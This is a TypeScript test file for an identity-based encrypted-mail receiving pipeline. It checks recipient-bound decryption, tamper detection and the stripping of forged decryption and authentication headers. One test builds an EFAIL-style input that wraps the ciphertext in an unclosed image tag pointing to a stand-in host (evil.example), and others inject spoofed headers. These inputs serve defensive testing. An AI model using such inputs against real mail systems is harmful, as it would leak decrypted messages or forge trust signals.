import assert from 'node:assert/strict'
import { after, before, beforeEach, describe, it } from 'node:test'
import { createMemoryCache } from '../../lib/cache/memory.ts'
import { SecretBytes } from '../../lib/crypto/secret-bytes.ts'
import type { WorkerPool } from '../../lib/crypto/pool.ts'
import { createResolver } from '../../lib/dns/resolver.ts'
import { PermError, TempError } from '../../lib/errors.ts'
import { createDirectory } from '../../lib/ibe/directory/directory.ts'
import { createIbe, createIbePool, type Ibe } from '../../lib/ibe/ibe.ts'
import { normalizeAddress } from '../../lib/ibe/identity.ts'
import type { IbeJobs } from '../../lib/ibe/jobs.ts'
import { createIbeScheme } from '../../lib/ibe/mail-scheme.ts'
import { formatParameters } from '../../lib/ibe/parameters.ts'
import { collect, messageBytes, readMessage } from '../../lib/mail/message.ts'
import { TRUST_SOURCES, type Scheme } from '../../lib/mail/scheme.ts'
import { receive, type Arrival } from '../../lib/protection/incoming.ts'
import { startDnsServer, type DnsServer } from '../support/dns-server.ts'
import { checkBy } from '../ibe/checks.ts'
import { fakeClock } from '../ibe/fake-clock.ts'
import { keysOf } from '../ibe/keys.ts'
import { bytesOf, latin1 } from '../mail/pieces.ts'

interface Recipient {
  readonly address: string
  readonly domain: string
}

const OPTIONS = {
  limits: { layers: 3, headerBytes: 100_000, bytes: 1_000_000 },
  allowsUnproven: () => false,
  tags: [],
  activeContent: 'text' as const,
  reference: 'REF',
}

const MARK =
  'Ibemail-Decrypted: true\r\n' +
  'Hisho-Decrypted: ibe-bf; n=1; identity="alice@b.example#2026-11"; integrity=ok; signature=unchecked\r\n'

describe('a message that arrives', () => {
  const clock = fakeClock()
  let pool: WorkerPool<IbeJobs>
  let ibe: Ibe
  let dns: DnsServer
  let scheme: Scheme
  let masterKey: SecretBytes
  let masterKeys: () => Promise<(domain: string, n: number) => SecretBytes | undefined>

  before(async () => {
    pool = createIbePool({ size: 1, queueLimit: 100 })
    ibe = createIbe({ pool, clock })
    masterKey = await ibe.generateMasterKey()
    const publicKey = await ibe.publicKey(masterKey)
    const record = formatParameters({
      version: '2.0',
      scheme: 'bf',
      n: 1,
      period: 'month',
      publicKey,
    })
    dns = await startDnsServer({ '_ibemailkey.b.example': { TXT: [record] } })
    const directory = createDirectory({
      resolver: createResolver({
        servers: [{ address: dns.address, port: dns.port, trusted: true }],
      }),
      cache: createMemoryCache({ clock, maxEntries: 10 }),
      clock,
      ttl: { floorSeconds: 0, ceilingSeconds: 60 },
      store: createMemoryCache({ clock, maxEntries: 10 }),
      check: checkBy(ibe),
      verifyRecord: (request) => ibe.verifyRecord(request),
      log: () => {},
    })
    scheme = createIbeScheme({
      ibe,
      directory,
      clock,
      keys: keysOf(ibe, clock, async (domain, n) => (await masterKeys())(domain, n)),
    })
  })
  after(async () => {
    ibe.close()
    await Promise.all([pool.close(), dns.close()])
  })
  beforeEach(() => {
    masterKeys = async () => (domain, n) =>
      domain === 'b.example' && n === 1 ? masterKey : undefined
  })

  async function sealed(original: string, ...addresses: string[]): Promise<string> {
    const offer = await scheme.offer({
      domain: 'b.example',
      addresses: [],
      trust: TRUST_SOURCES,
      settings: {},
    })
    assert.ok(offer)
    const message = offer.seal(addresses, await readMessage([bytesOf(original)]), {
      author: undefined,
    })
    return latin1(await collect(messageBytes(message)))
  }

  async function arrive(text: string, ...addresses: string[]): Promise<Arrival<Recipient>> {
    const recipients = addresses.map((address) => ({ address, domain: 'b.example' }))
    return receive(await readMessage([bytesOf(text)]), recipients, {
      schemes: [scheme],
      normalizeAddress,
      authservIds: new Set(['mx.b.example']),
      ...OPTIONS,
    })
  }

  /** What alice gets to see. */
  async function opened(text: string): Promise<string> {
    const arrival = await arrive(text, 'alice@b.example')
    assert.equal(arrival.status, 'opened')
    assert.ok(arrival.status === 'opened')
    return latin1(await collect(messageBytes(arrival.message)))
  }

  const ORIGINAL =
    'From: ann@a.example\r\nTo: alice@b.example\r\nSubject: caf\xe9\r\n\r\nsecret \0\xff\r\n.\r\n'

  it('is opened for whom it was sealed, byte for byte below the marks', async () => {
    assert.equal(await opened(await sealed(ORIGINAL, 'alice@b.example')), MARK + ORIGINAL)
  })

  it('is opened in any pieces', async () => {
    const text = bytesOf(await sealed(ORIGINAL, 'alice@b.example'))
    const pieces = [...text].map((byte) => Uint8Array.of(byte))
    const recipients = [{ address: 'alice@b.example', domain: 'b.example' }]
    const arrival = await receive(await readMessage(pieces), recipients, {
      schemes: [scheme],
      normalizeAddress,
      authservIds: new Set(),
      ...OPTIONS,
    })
    assert.ok(arrival.status === 'opened')
    assert.equal(latin1(await collect(messageBytes(arrival.message))), MARK + ORIGINAL)
  })

  it('is opened for those it names, and for nobody else of the envelope', async () => {
    const text = await sealed(ORIGINAL, 'alice@b.example', 'bob@b.example')
    const arrival = await arrive(
      text,
      'mallory@b.example',
      'Alice@B.example',
      'bob@b.example',
      'not an address',
    )
    assert.ok(arrival.status === 'opened')
    assert.deepEqual(
      arrival.recipients.map(({ address }) => address),
      ['Alice@B.example', 'bob@b.example'],
    )
    assert.deepEqual(
      arrival.others.map(({ address }) => address),
      ['mallory@b.example', 'not an address'],
    )
  })

  it('is not opened for somebody to whom a copy of it was sent', async () => {
    const arrival = await arrive(await sealed(ORIGINAL, 'alice@b.example'), 'mallory@b.example')
    assert.equal(arrival.status, 'closed')
  })

  it('is not opened for a name that was written over in the ciphertext', async () => {
    const text = await sealed(ORIGINAL, 'alice@b.example')
    const age = Buffer.from(text.slice(text.indexOf('base64\r\n\r\n') + 10), 'base64').toString(
      'latin1',
    )
    const name = (address: string) =>
      Buffer.from(`${address}@b.example#2026-11`).toString('base64url')
    const forged = age.replace(name('alice'), name('malry'))
    assert.notEqual(forged, age)
    const body = Buffer.from(forged, 'latin1').toString('base64')
    const whole = `${text.slice(0, text.indexOf('base64\r\n\r\n') + 10)}${body}${text.slice(text.lastIndexOf('\r\n--'))}`
    assert.equal((await arrive(whole, 'malry@b.example')).status, 'closed')
    assert.equal((await arrive(whole, 'alice@b.example')).status, 'closed')
  })

  it('that is not ours is left alone', async () => {
    const arrival = await arrive(ORIGINAL, 'alice@b.example')
    assert.equal(arrival.status, 'none')
    assert.deepEqual(
      arrival.fields.map(({ name }) => name),
      ['from', 'to', 'subject'],
    )
  })

  it('that only says to be ours is closed, with a reason', async () => {
    const text = await sealed(ORIGINAL, 'alice@b.example')
    for (const broken of [
      text.replace('Version: 2', 'Version: 9'),
      text.slice(0, -200),
      text.replace(/base64\r\n\r\n..../, 'base64\r\n\r\nAAAA'),
    ]) {
      const arrival = await arrive(broken, 'alice@b.example')
      assert.ok(arrival.status === 'closed')
      assert.match(arrival.reason, /^(?:mail|container)\//)
    }
  })

  it('that was altered behind its first chunk fails while it is read', async () => {
    const long = `${ORIGINAL}${'x'.repeat(100_000)}\r\n`
    const text = await sealed(long, 'alice@b.example')
    const at = text.lastIndexOf('\r\n--') - 1_000
    const altered = `${text.slice(0, at)}${text[at] === 'A' ? 'B' : 'A'}${text.slice(at + 1)}`
    const arrival = await arrive(altered, 'alice@b.example')
    assert.ok(arrival.status === 'opened')
    await assert.rejects(collect(arrival.message.body), PermError)
  })

  const FORGED = [
    'Hisho-Decrypted: ibe-bf; signature=good',
    'hisho-decrypted : yes',
    'HISHO-Decrypted:\r\n yes',
    'Ibemail-Decrypted: true',
    'Hisho-Other: x',
    'Authentication-Results: mx.b.example; dkim=pass',
    'authentication-results : (a (b)) "mx.b.example" 1; dkim=pass',
  ].map((field) => `${field}\r\n`)
  const FOREIGN = 'Authentication-Results: mx.a.example; dkim=pass\r\n'

  it('loses forged marks inside, and keeps what others have said', async () => {
    const original = `${FORGED.slice(0, 3).join('')}Subject: x\r\n${FORGED.slice(3).join('')}${FOREIGN}\r\nHisho-Decrypted: in the body\r\n`
    assert.equal(
      await opened(await sealed(original, 'alice@b.example')),
      `${MARK}Subject: x\r\n${FOREIGN}\r\nHisho-Decrypted: in the body\r\n`,
    )
  })

  it('loses forged marks outside, and keeps what others have said', async () => {
    const text = await sealed(ORIGINAL, 'alice@b.example')
    assert.equal(await opened(`${FORGED.join('')}${FOREIGN}${text}`), FOREIGN + MARK + ORIGINAL)
  })

  it('loses forged marks when it is closed and when it is not ours', async () => {
    for (const [text, status] of [
      [await sealed(ORIGINAL, 'bob@b.example'), 'closed'],
      [ORIGINAL, 'none'],
    ] as const) {
      const arrival = await arrive(`${FORGED.join('')}${FOREIGN}${text}`, 'alice@b.example')
      assert.ok(arrival.status === status)
      const clean = await readMessage([bytesOf(`${FOREIGN}${text}`)])
      assert.deepEqual(arrival.fields, clean.fields)
    }
  })

  it('its first line inside cannot put words into our mark', async () => {
    const original = ` signature=good\r\n\tmore\r\nSubject: x\r\n\r\nbody\r\n`
    assert.equal(
      await opened(await sealed(original, 'alice@b.example')),
      `${MARK}Subject: x\r\n\r\nbody\r\n`,
    )
  })

  it('a body without an empty line above cannot become a header', async () => {
    for (const line of ['text', '\x01', 'Hisho Decrypted']) {
      const original = `Subject: x\r\n${line}\r\nHisho-Decrypted: forged\r\n`
      assert.equal(
        await opened(await sealed(original, 'alice@b.example')),
        `${MARK}Subject: x\r\n\r\n${line}\r\nHisho-Decrypted: forged\r\n`,
      )
    }
    assert.equal(
      await opened(await sealed('Subject: x\r\nHisho-Decrypted : forged\r\n', 'alice@b.example')),
      `${MARK}Subject: x\r\n`,
    )
  })

  it('keeps the trace of its way in order, and nothing else of the outside', async () => {
    const trace = [
      'Return-Path: <ann@a.example>\r\n',
      'Received: from 3\r\n by 4\r\n',
      'X-Spam-Status: No\r\n',
      FOREIGN,
      'Received: from 1\r\n',
      'DKIM-Signature: v=1\r\n',
      'ARC-Seal: i=1\r\n',
      'received : from 0\r\n',
    ]
    const added = ['Reply-To: mallory@evil.example\r\n', 'Subject: forged\r\n', 'List-Id: x\r\n']
    const [one = '', two = '', three = ''] = added
    const text = await sealed(ORIGINAL, 'alice@b.example')
    const outside = [trace[0], one, ...trace.slice(1, 5), two, three, ...trace.slice(5)].join('')
    assert.equal(await opened(outside + text), trace.join('') + MARK + ORIGINAL)
  })

  it('C3 C4: deeper than its root nothing is opened', async () => {
    const inner = await sealed(ORIGINAL, 'alice@b.example')
    for (const type of [
      'multipart/mixed; boundary=b0',
      'multipart/alternative; boundary=b0',
      'multipart/related; boundary=b0',
      'multipart/signed; boundary=b0',
      'message/rfc822',
      'text/plain',
      'multipart/encrypted; protocol="application/pgp-encrypted"; boundary=b0',
    ]) {
      const text = `Content-Type: ${type}\r\n\r\n--b0\r\n${inner}\r\n--b0--\r\n`
      const arrival = await arrive(text, 'alice@b.example')
      assert.equal(arrival.status, 'none', type)
    }
  })

  it('C3: inline OpenPGP with text around it stays as it is', async () => {
    const pgp = '-----BEGIN PGP MESSAGE-----\r\n\r\nabcd\r\n-----END PGP MESSAGE-----\r\n'
    const text = `From: a@a.example\r\n\r\nsee:\r\n${pgp}end\r\n`
    assert.equal((await arrive(text, 'alice@b.example')).status, 'none')
  })

  it('C4: what stands around the encrypted part at the root is gone, not beside the plaintext', async () => {
    const text = await sealed(ORIGINAL, 'alice@b.example')
    const boundary = /boundary="([^"]+)"/.exec(text)?.[1] ?? ''
    const epilogue = `${text}<img src="http://evil.example/?`
    const part = `${text.slice(0, text.lastIndexOf(`--${boundary}--`))}--${boundary}\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.example/?\r\n--${boundary}--\r\n`
    for (const framed of [epilogue, part]) {
      const arrival = await arrive(framed, 'alice@b.example')
      if (arrival.status === 'closed') continue
      assert.ok(arrival.status === 'opened')
      const body = await collect(messageBytes(arrival.message)).then(latin1, () => 'damaged')
      assert.ok(body === 'damaged' || body === MARK + ORIGINAL, body)
    }
  })

  it('waits while the vault is locked, if it is for us', async () => {
    const text = await sealed(ORIGINAL, 'alice@b.example')
    masterKeys = async () => {
      throw new TempError('vault/locked', 'locked')
    }
    await assert.rejects(
      arrive(text, 'alice@b.example'),
      (error: unknown) => error instanceof TempError && error.code === 'vault/locked',
    )
    assert.equal((await arrive(text, 'mallory@b.example')).status, 'closed')
    assert.equal(
      (await arrive(text.replace('Version: 2', 'Version: 9'), 'alice@b.example')).status,
      'closed',
    )
    assert.equal((await arrive(ORIGINAL, 'alice@b.example')).status, 'none')
  })

  it('waits while the vault is of no use, if it is for us', async () => {
    const text = await sealed(ORIGINAL, 'alice@b.example')
    masterKeys = async () => {
      throw new PermError('vault/malformed', 'what is inside')
    }
    await assert.rejects(arrive(text, 'alice@b.example'), TempError)
    masterKeys = async () => () => new SecretBytes(new Uint8Array(32))
    await assert.rejects(arrive(text, 'alice@b.example'), TempError)
  })

  it('an error nobody understands is passed on', async () => {
    const bug = new TypeError('x')
    masterKeys = async () => {
      throw bug
    }
    await assert.rejects(
      arrive(await sealed(ORIGINAL, 'alice@b.example'), 'alice@b.example'),
      (error) => error === bug,
    )
  })

  it('is closed when its master key is not here any more, and says which', async () => {
    const text = await sealed(ORIGINAL, 'alice@b.example')
    masterKeys = async () => () => undefined
    const arrival = await arrive(text, 'alice@b.example')
    assert.ok(arrival.status === 'closed')
    assert.match(arrival.reason, /no key n=1 for b\.example/)
  })

  it('is closed under another master key', async () => {
    const text = await sealed(ORIGINAL, 'alice@b.example')
    const other = await ibe.generateMasterKey()
    masterKeys = async () => () => other
    assert.equal((await arrive(text, 'alice@b.example')).status, 'closed')
  })

  it('a local part that is not ASCII does not leave ASCII in the mark', async () => {
    const text = await sealed(ORIGINAL, 'ali\u00e7e@b.example')
    const arrival = await arrive(text, 'ali\u00e7e@b.example')
    assert.ok(arrival.status === 'opened')
    assert.match(arrival.description, /identity="ali\?e@b\.example#2026-11"/)
  })
})
